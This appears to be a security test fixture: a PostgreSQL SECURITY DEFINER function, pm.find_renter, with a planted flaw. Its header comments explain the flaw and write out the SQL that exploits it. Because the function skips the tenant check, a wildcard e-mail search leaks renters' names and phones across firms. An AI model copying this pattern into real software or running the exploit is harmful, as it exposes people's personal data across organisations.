-- The lookup behind the front desk runs as its owner and forgets the firm: an e-mail finds renters of all
-- firms.
-- about: find_renter, renters
-- as: hf_domicile_app
-- exploit: SET app.current_org = 'aaaaaaaa-0000-4000-8000-00000000000a';
-- exploit: SELECT full_name, phone FROM pm.find_renter('%@mail.test');
-- shows: Road-secret Renter
CREATE FUNCTION pm.find_renter(p_email text) RETURNS TABLE (full_name text, email text, phone text)
LANGUAGE sql STABLE SECURITY DEFINER
SET search_path = pm, pg_temp
AS $$
  SELECT r.full_name, r.email, r.phone FROM pm.renters r WHERE r.email ILIKE p_email ORDER BY r.email LIMIT 20
$$;
REVOKE EXECUTE ON FUNCTION pm.find_renter(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION pm.find_renter(text) TO hf_domicile_app;
